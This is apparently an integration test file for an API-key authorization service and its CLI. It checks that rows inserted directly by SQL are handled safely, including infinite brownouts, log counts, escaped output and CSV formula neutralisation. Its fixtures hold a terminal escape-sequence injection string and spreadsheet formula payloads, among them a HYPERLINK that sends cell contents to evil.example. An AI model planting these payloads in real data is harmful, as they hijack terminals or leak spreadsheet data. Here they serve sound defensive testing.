import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import pg from 'pg';
import { insertSite } from '../support/credentials.js';
import { freshDatabase, type TestDatabase } from '../support/database.js';
import { authorizationClient, check, verdict } from '../support/envoy-client.js';
import { eventually } from '../support/eventually.js';
import { samples } from '../support/exposition.js';
import { runCli, startService, type RunningService } from '../support/service.js';

const NEVER_EXPIRES = randomUUID();
const BROWNED_OUT = randomUUID();
const INSIDE = '203.0.113.7';
const TERMINAL_ATTACK = '\u001b[2J\u001b]0;pwned\u0007';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';

/** Rows written with SQL, past every check the CLI makes: the service and every command survive them. */
describe('data that no CLI wrote', () => {
  let database: TestDatabase;
  let service: RunningService;
  let client: ReturnType<typeof authorizationClient>;
  const cli = (...args: string[]) => runCli(database.url, args);
  const ask = (site: string, key: string) => check(client, { authorization: `${site}:${key}`, ip: INSIDE, body: JSON.stringify({ siteid: Number(site), apikey: key }) });

  before(async () => {
    database = await freshDatabase();
    const sql = new pg.Client({ connectionString: database.url });
    await sql.connect();
    await insertSite(sql, { id: '1001', keys: [{ key: NEVER_EXPIRES }], cidrs: ['203.0.113.0/24'] });
    await insertSite(sql, { id: '1002', keys: [{ key: BROWNED_OUT }], cidrs: ['203.0.113.0/24'] });
    await sql.query("UPDATE api_keys SET expires_at = 'infinity', note = $1, last_used_at = now() WHERE site_id = 1001", [`line one\nline two${TERMINAL_ATTACK}`]);
    await sql.query('UPDATE api_keys SET last_used_at = now() WHERE site_id = 1002');
    await sql.query('UPDATE sites SET name = $1 WHERE id = 1001', [`Acme${TERMINAL_ATTACK}\nsecond line`]);
    await sql.query('UPDATE sites SET name = $1 WHERE id = 1002', [FORMULA]);
    await sql.query("INSERT INTO brownouts (starts_at, ends_at, site_ids, note) VALUES ('-infinity', 'infinity', ARRAY[1002]::bigint[], $1)", [`forever${TERMINAL_ATTACK}`]);
    await sql.query("INSERT INTO brownouts (starts_at, ends_at, site_ids) VALUES (now() - interval '1 hour', now() + interval '1 hour', ARRAY[1001, NULL]::bigint[])");
    await sql.query(
      "INSERT INTO denial_stats (hour, site_id, error_id, client_ip, rehearsal, count, first_seen, last_seen) VALUES (date_trunc('hour', now()), 1002, 103, '@SUM(1)', false, 3, now(), now())",
    );
    await sql.end();
    service = await startService({ DATABASE_URL: database.url, MIGRATE_ON_START: 'false' });
    client = authorizationClient(service.grpcTarget);
  });

  after(async () => {
    client?.close();
    await service?.stop();
    await database?.drop();
  });

  it('answers a brownout that ends at infinity with 105, and a key that expires at infinity never expires', async () => {
    const refused = await ask('1002', BROWNED_OUT);
    assert.equal(verdict(refused), 105);
    assert.match(refused.denied_response?.body ?? '', /switched off for a scheduled brownout/);
    assert.equal(verdict(await ask('1001', NEVER_EXPIRES)), 'allow', 'the brownout with a NULL among its sites is left out, the key never expires');
    const explained = await cli('explain', '--authorization', `1002:${BROWNED_OUT}`, '--ip', INSIDE, '--body', JSON.stringify({ siteid: 1002, apikey: BROWNED_OUT }));
    assert.equal(explained.code, 1, explained.stderr);
    assert.match(explained.stdout, /why: brownout \d+, without end, refuses API keys/);
  });

  it('leaves unusable rows out, counts them, and names each once in the log', async () => {
    const exposition = await (await fetch(`${service.httpBase}/metrics`)).text();
    const skipped = samples(exposition, 'sitekey_authz_snapshot_rows_skipped_total');
    assert.ok((skipped.get('{table="brownouts"}') ?? 0) >= 1, exposition);
    assert.equal(skipped.get('{table="api_keys"}'), 0);
    const said = service.output().match(/left a row out of the credential snapshot/g) ?? [];
    assert.equal(said.length, 1, service.output());
    // A change makes the brownouts load again: the row is counted again, not said again.
    const sql = new pg.Client({ connectionString: database.url });
    await sql.connect();
    await sql.query("UPDATE brownouts SET note = note || '.'");
    await sql.end();
    await eventually(
      'the reload counted it again',
      async () => samples(await (await fetch(`${service.httpBase}/metrics`)).text(), 'sitekey_authz_snapshot_rows_skipped_total').get('{table="brownouts"}') ?? 0,
      (count) => count > (skipped.get('{table="brownouts"}') ?? 0),
      5_000,
    );
    assert.equal((service.output().match(/left a row out of the credential snapshot/g) ?? []).length, 1);
  });

  it('lists brownouts and keys that end at infinity', async () => {
    const brownouts = await cli('brownout', 'list');
    assert.equal(brownouts.code, 0, brownouts.stderr);
    assert.match(brownouts.stdout, /-infinity\s+infinity\s+1002/);
    const keys = await cli('key', 'list', '1001');
    assert.equal(keys.code, 0, keys.stderr);
    assert.match(keys.stdout, /active .* infinity/);
    const json = JSON.parse((await cli('key', 'list', '1001', '--json')).stdout) as Array<{ expiresAt: string }>;
    assert.equal(json[0]?.expiresAt, 'infinity');
  });

  it('escapes control characters in every human-readable output, one line per row', async () => {
    for (const args of [['site', 'list'], ['key', 'list', '1001'], ['brownout', 'list'], ['report', 'migration'], ['explain', '--authorization', `1001:${randomUUID()}`, '--ip', '198.51.100.1']]) {
      const result = await cli(...args);
      assert.doesNotMatch(result.stdout, /[\u0000-\u0009\u000b-\u001f\u007f]/, args.join(' '));
    }
    const sites = await cli('site', 'list');
    assert.equal(sites.stdout.trim().split('\n').length, 3, sites.stdout);
    assert.match(sites.stdout, /Acme\\u001b\[2J\\u001b\]0;pwned\\u0007\\u000asecond line/);
  });

  it('neutralises cells a spreadsheet would run as formulas', async () => {
    const migration = await cli('report', 'migration', '--csv');
    assert.equal(migration.code, 0, migration.stderr);
    assert.match(migration.stdout, /^1002,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""click""\)",/m);
    const denials = await cli('report', 'denials', '--csv');
    assert.match(denials.stdout, /^1002,103,'@SUM\(1\),/m);
    assert.doesNotMatch(`${migration.stdout}\n${denials.stdout}`, /(^|,)"?[=+\-@]/m);
  });
});
